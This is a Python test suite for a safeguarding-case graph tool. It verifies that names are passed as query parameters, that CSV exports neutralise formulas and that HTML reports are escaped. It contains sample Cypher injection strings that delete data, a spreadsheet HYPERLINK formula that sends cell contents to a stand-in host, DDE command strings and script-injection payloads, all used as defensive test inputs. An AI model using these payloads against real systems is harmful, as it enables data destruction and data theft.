"""No value a user or a case file supplies is ever spliced into Cypher, a spreadsheet formula or HTML.

Names in safeguarding reviews are free text typed by many hands; some will contain quotes,
backslashes and braces, and a hostile file may contain Cypher, formulas or script. Values travel
as query parameters (checked here in the source and by round trips on both stores); the only
Cypher assembled in Python is generated from the schema, whose names are checked when it loads;
CSV exports neutralise formula prefixes and the HTML report escapes everything.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from findings.engine import Report, run_findings
from findings.model import Finding, Occurrence
from findings.report import to_csv, to_html, to_markdown
from graph import statements
from graph.embedded import EmbeddedBackend, table_ddl
from graph.load import delete_case, load_case
from graph.neo4j_backend import constraint_ddl
from graph.schema import SCHEMA_DIR, SchemaError, load_schema
from loaders.validate import validate_path
from queries.library import run_query
from queries.report import safe_cell
from tests.conftest import MINI_CASE, ROOT

CYPHER_WORD = re.compile(r"\b(MATCH|MERGE|CREATE|UNWIND|RETURN|DELETE|DETACH|WHERE|SET|CALL|LOAD|WITH)\b")
SCANNED = [*(ROOT / d for d in ("graph", "queries", "loaders", "views")), ROOT / "app.py", ROOT / "cli.py"]
# Files that assemble Cypher in Python, and why that is safe: each interpolates only schema names.
GENERATORS = {
    "graph/statements.py": "load, count and export statements generated per schema type",
    "graph/embedded.py": "the embedded engine's table DDL and bulk COPY, generated from the schema",
    "graph/neo4j_backend.py": "Neo4j constraints and indexes, generated from the schema",
    "graph/neo4j_staging.py": "a staged first load: the staging label (a constant) and schema labels",
    "graph/export.py": "a child's neighbourhood read by key: schema labels, types and columns",
}
# What those generators may interpolate: schema labels, types and columns, and fragments built from them.
SCHEMA_DERIVED = {
    "ntype.label",
    "etype.type",
    "n.label",
    "e.type",
    "n.label.lower()",
    "e.type.lower()",  # checked names
    "src",
    "dst",  # labels of an edge's ends, looked up in the schema by the validator
    "verb",  # "CREATE" or "MERGE", chosen by graph/load.py
    "where",  # a constant WHERE clause with a $case_id parameter
    "c",
    "cols",
    "pairs",
    "var",
    "value(c, k)",
    "_TYPES[k]",  # columns and types of the schema
    "_set_clause('n', ntype.columns(), present)",
    "_set_clause('e', etype.columns(), present)",
    # a re-load's diff statements (graph/statements.py): a node type's label, the schema's columns it
    # changes, and pattern text built in the same module from the names above
    "kind.label",
    "ends",
    "match",
    "_edge_match(etype, src, dst)",
    "_edge_match(kind, src, dst)",
    "_set_clause('n', chosen, present)",
    "_set_clause('e', chosen, present)",
    # a staged Neo4j first load (graph/neo4j_staging.py, graph/statements.py): the staging label is a
    # constant; a node is written under it or under its schema label; stored edges start at schema labels
    "STAGING",
    "label",
    "label or ntype.label",
    "_stored_edges(etype)",
    # a child's neighbourhood (graph/export.py): the label a declared step starts from (code constants
    # naming schema labels) and the schema's columns of what it reads
    "step.at",
    "', '.join(cols)",
}


def _python_files() -> Iterator[Path]:
    for target in SCANNED:
        if target.is_file():
            yield target
        elif target.is_dir():
            yield from sorted(target.rglob("*.py"))


def _built_cypher(tree: ast.AST) -> Iterator[tuple[ast.AST, list[ast.expr]]]:
    """String expressions that mix Cypher text with values: f-strings, % and .format, and +."""
    for node in ast.walk(tree):
        texts: list[str] = []
        values: list[ast.expr] = []
        if isinstance(node, ast.JoinedStr):
            texts = [v.value for v in node.values if isinstance(v, ast.Constant)]
            values = [v.value for v in node.values if isinstance(v, ast.FormattedValue)]
        elif isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Mod, ast.Add)):
            sides = [node.left, node.right]
            texts = [s.value for s in sides if isinstance(s, ast.Constant) and isinstance(s.value, str)]
            values = [s for s in sides if not isinstance(s, ast.Constant)]
        elif (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and node.func.attr == "format"
            and isinstance(node.func.value, ast.Constant)
            and isinstance(node.func.value.value, str)
        ):
            texts, values = [node.func.value.value], [*node.args, *(k.value for k in node.keywords)]
        if values and any(CYPHER_WORD.search(t) for t in texts):
            yield node, values


def test_cypher_is_built_from_values_only_by_the_schema_generators():
    found = []
    for path in _python_files():
        rel = path.relative_to(ROOT).as_posix()
        for node, _ in _built_cypher(ast.parse(path.read_text(encoding="utf-8"))):
            if rel not in GENERATORS:
                found.append(f"{rel}:{node.lineno}: {ast.unparse(node)[:100]}")
    assert not found, "Cypher built by string formatting; pass values as $parameters instead:\n" + "\n".join(found)


def test_generators_interpolate_only_schema_names():
    unexpected = []
    for rel in GENERATORS:
        for node, values in _built_cypher(ast.parse((ROOT / rel).read_text(encoding="utf-8"))):
            unexpected += [
                f"{rel}:{node.lineno}: {{{ast.unparse(v)}}}" for v in values if ast.unparse(v) not in SCHEMA_DERIVED
            ]
    assert not unexpected, "\n".join(unexpected)


def test_every_generated_statement_names_only_schema_types():
    schema = load_schema()
    names = set(schema.nodes) | set(schema.edges)
    texts = table_ddl(schema) + constraint_ddl(schema)
    for n in schema.nodes.values():
        cols = {c for c, _ in n.columns()}
        texts += [statements.node_write(n, verb, cols) for verb in ("CREATE", "MERGE")]
        texts += [
            statements.ids_taken(n),
            statements.node_prune(n),
            statements.node_count(n, True),
            statements.node_export(n, True),
        ]
    for e in schema.edges.values():
        cols = {c for c, _ in e.columns()}
        texts += [statements.edge_write(e, a, b, cols) for a, b in e.pairs()]
        texts += [statements.edge_delete_case(e), statements.edge_count(e, True), statements.edge_export(e, True)]
        texts += [statements.edge_delete(e, a, b) for a, b in e.pairs()]
        row = {c: "x" for c in cols}
        texts += [
            q for a, b in e.pairs() for q, _ in statements.update_batches(e, (*cols,), [row], 1, (a, b), [("s", "d")])
        ]
    for n in schema.nodes.values():
        texts += [statements.nodes_delete(n)]
        row = {c: "x" for c, _ in n.columns()}
        texts += [q for q, _ in statements.update_batches(n, (*row,), [row], 1)]
    for text in texts:
        assert set(re.findall(r"[(\[]\w*:(\w+)", text)) <= names, text
        assert "'" not in text and '"' not in text, f"a literal in generated Cypher: {text}"


@pytest.mark.parametrize(
    ("file", "old", "new"),
    [
        ("nodes/Child.yaml", "label: Child", "label: 'Child) DETACH DELETE n //'"),
        ("nodes/Child.yaml", "label: Child", "label: child"),
        ("edges/WORKS_FOR.yaml", "type: WORKS_FOR", "type: 'WORKS_FOR]->() DETACH DELETE e //'"),
        ("nodes/Child.yaml", "  name:", "  'name = 1 DETACH DELETE n //':"),
        ("nodes/Child.yaml", "  name:", "  Name:"),
    ],
)
def test_schema_refuses_names_that_are_not_plain(tmp_path, file, old, new):
    """Labels, types and property names are checked when the schema loads, before any Cypher is made."""
    schema_dir = tmp_path / "schema"
    shutil.copytree(SCHEMA_DIR, schema_dir, ignore=shutil.ignore_patterns("README.md"))
    target = schema_dir / file
    text = target.read_text(encoding="utf-8")
    assert old in text
    target.write_text(text.replace(old, new, 1), encoding="utf-8")
    with pytest.raises(SchemaError, match="must match"):
        load_schema(schema_dir)


# ---------------------------------------------------------------------------------------------
# Values that look like Cypher, formulas or markup survive the round trip unchanged.

NASTY = [
    "O'Brien",
    'Say "hi"',
    "back\\slash",
    "trailing\\",
    "}{",
    "{x}",
    "${x}",
    "$name",
    "' OR 1=1 //",
    "'}) MATCH (n) DETACH DELETE n //",
    "\\'; MATCH (n) DETACH DELETE n",
    "`backtick`",
    "MATCH (n) DETACH DELETE n",
    "/* comment */",
    "// comment",
    "100% {0} {} %s",
    "¶23 — “curly” ‘quotes’",
    "Ünïcödé 北京 🧩",
    "\\u0027",
    "tab\there",
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1)",
    "-2+3",
    "  spaced  ",
    "a\u2028b",
    "null",
    "NULL",
    "true",
    "[]",
]


def _case_dir(tmp: Path, case_id: str, prefix: str, names: list[str]) -> Path:
    """A case with one Agency and one Child per name, written as YAML the way any tool would."""
    tmp.mkdir(parents=True, exist_ok=True)
    (tmp / "case.yaml").write_text(
        yaml.safe_dump(
            {
                "case": case_id,
                "document": f"{prefix}doc",
                "nodes": [{"type": "SourceDocument", "id": f"{prefix}doc", "name": "Review", "source": "Title page"}],
            }
        ),
        encoding="utf-8",
    )
    nodes = [
        {"type": "Agency", "id": f"{prefix}ag{i}", "name": name, "sector": "other", "source": "¶1"}
        for i, name in enumerate(names)
    ]
    nodes += [{"type": "Child", "id": f"{prefix}ch{i}", "name": name, "source": "¶1"} for i, name in enumerate(names)]
    edges = [
        {
            "type": "INVOLVED_WITH",
            "from": f"{prefix}ag{i}",
            "to": f"{prefix}ch{i}",
            "period": "2015",
            "role": name,
            "source": "¶1",
        }
        for i, name in enumerate(names)
    ]
    (tmp / "records.yaml").write_text(
        yaml.safe_dump({"nodes": nodes, "edges": edges}, allow_unicode=True), encoding="utf-8"
    )
    return tmp


def _round_trips(backend, case_id: str, prefix: str, names: list[str]) -> None:
    for i, name in enumerate(names):
        rows = backend.read(
            "MATCH (a:Agency) WHERE a.name = $name AND a.case_id = $case_id RETURN a.id AS id",
            {"name": name, "case_id": case_id},
        )
        assert rows == [{"id": f"{prefix}ag{i}"}], name
        rows = backend.read(
            "MATCH (a:Agency {id: $id})-[r:INVOLVED_WITH]->(c:Child) "
            "RETURN a.name AS agency, r.role AS role, c.name AS child",
            {"id": f"{prefix}ag{i}"},
        )
        assert rows == [{"agency": name, "role": name, "child": name}], name
    children = {r["child"]: r["name"] for r in run_query(backend, "children", case_id)}
    assert children == {f"{prefix}ch{i}": name for i, name in enumerate(names)}


def test_nasty_values_round_trip_on_the_embedded_store(embedded, tmp_path):
    load_case(embedded, validate_path(_case_dir(tmp_path, "inject", "inj-", NASTY)))
    _round_trips(embedded, "inject", "inj-", NASTY)


@pytest.mark.neo4j
def test_nasty_values_round_trip_on_neo4j(neo4j_server, tmp_path):
    load_case(neo4j_server, validate_path(_case_dir(tmp_path, "inject", "inj-", NASTY)))
    try:
        _round_trips(neo4j_server, "inject", "inj-", NASTY)
    finally:
        delete_case(neo4j_server, "inject")


# Any text the validator accepts for a name: no control characters, no lone surrogates.
# Cf (bidi overrides, zero-width characters) is refused in names by the validator (test_validate_attacks.py).
NAMES = st.lists(
    st.text(st.characters(blacklist_categories=("Cc", "Cs", "Cf")), min_size=1, max_size=30).filter(
        lambda s: s.strip()
    ),
    min_size=1,
    max_size=4,
    unique=True,
)


@pytest.fixture(scope="module")
def reloaded() -> Iterator[EmbeddedBackend]:
    backend = EmbeddedBackend(":memory:")
    yield backend
    backend.close()


@settings(max_examples=80, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(names=NAMES)
def test_any_valid_name_round_trips_on_the_embedded_store(reloaded, tmp_path_factory, names):
    """Each example reloads the same case with new names: the replace path, too, keeps values intact."""
    load_case(reloaded, validate_path(_case_dir(tmp_path_factory.mktemp("c"), "inject-h", "h-", names)), replace=True)
    _round_trips(reloaded, "inject-h", "h-", names)


@pytest.mark.neo4j
@settings(max_examples=25, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(names=NAMES)
def test_any_valid_name_round_trips_on_neo4j(neo4j_server, tmp_path_factory, names):
    load_case(
        neo4j_server, validate_path(_case_dir(tmp_path_factory.mktemp("c"), "inject-h", "h-", names)), replace=True
    )
    try:
        _round_trips(neo4j_server, "inject-h", "h-", names)
    finally:
        delete_case(neo4j_server, "inject-h")


# ---------------------------------------------------------------------------------------------
# Exports: CSV cells cannot run as formulas; HTML cannot run as markup.

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "\n=1+1",
    ' =HYPERLINK("http://x")',
    "  \n@SUM(1)",
    " -1+cmd",
]


def _report(value: str) -> Report:
    finding = Finding(
        "not_in_room",
        "did_not_attend",
        "recorded",
        value,
        ("C1",),
        ("GP",),
        [Occurrence(value, value, refs=("¶4", value), record="M1")],
        ["¶4", value],
        tags=[value],
    )
    return Report("mini", "embedded", [{"child": "C1", "name": value}], [finding])


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cells_never_start_a_formula(value):
    assert safe_cell(value) == "'" + value
    rows = list(csv.reader(io.StringIO(to_csv(_report(value)))))
    cells = [c for row in rows[1:] for c in row]
    assert all(not c.lstrip().startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for c in cells), cells
    assert "'" + value in cells


def test_csv_report_of_a_case_with_a_malicious_name(tmp_path):
    """End to end: an agency named as a formula, loaded, queried and exported, is inert in the CSV."""
    case_dir = tmp_path / "mini"
    shutil.copytree(MINI_CASE, case_dir)
    evil = FORMULAS[0]
    records = case_dir / "records.yaml"
    text = records.read_text(encoding="utf-8")
    records.write_text(text.replace("name: GP practice A2", "name: " + json.dumps(evil), 1), encoding="utf-8")
    store = EmbeddedBackend(":memory:")
    load_case(store, validate_path(case_dir))
    cells = [c for row in csv.reader(io.StringIO(to_csv(run_findings(store, "mini")))) for c in row]
    store.close()
    assert any(c.startswith("'" + evil) for c in cells)  # the GP's own finding names it first
    assert not [c for c in cells if c.startswith("=")]


def test_plain_text_cells_are_left_as_they_are():
    assert [safe_cell(v) for v in ("Child Q", " Child Q", "¶23", "", None, ["a", "b"])] == [
        "Child Q",
        " Child Q",
        "¶23",
        "",
        "",
        "a; b",
    ]


def test_markdown_report_escapes_html():
    attacks = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', "<svg onload=alert(1)>"]
    for value in attacks:
        md = to_markdown(_report(value), evidence_text=lambda ref, v=value: v)
        assert "<script" not in md and "<img" not in md and "<svg" not in md, md
        assert "&lt;" in md


def test_html_report_escapes_script_and_handlers():
    attacks = ["<script>alert(1)</script>", '<img src=x onerror="alert(1)">', '"><svg onload=alert(1)>']
    for value in attacks:
        page = to_html(_report(value), evidence_text=lambda ref, v=value: v)
        assert "<script>" not in page and "<img" not in page and "<svg" not in page
        assert "&lt;script&gt;" in page or "&lt;img" in page or "&lt;svg" in page
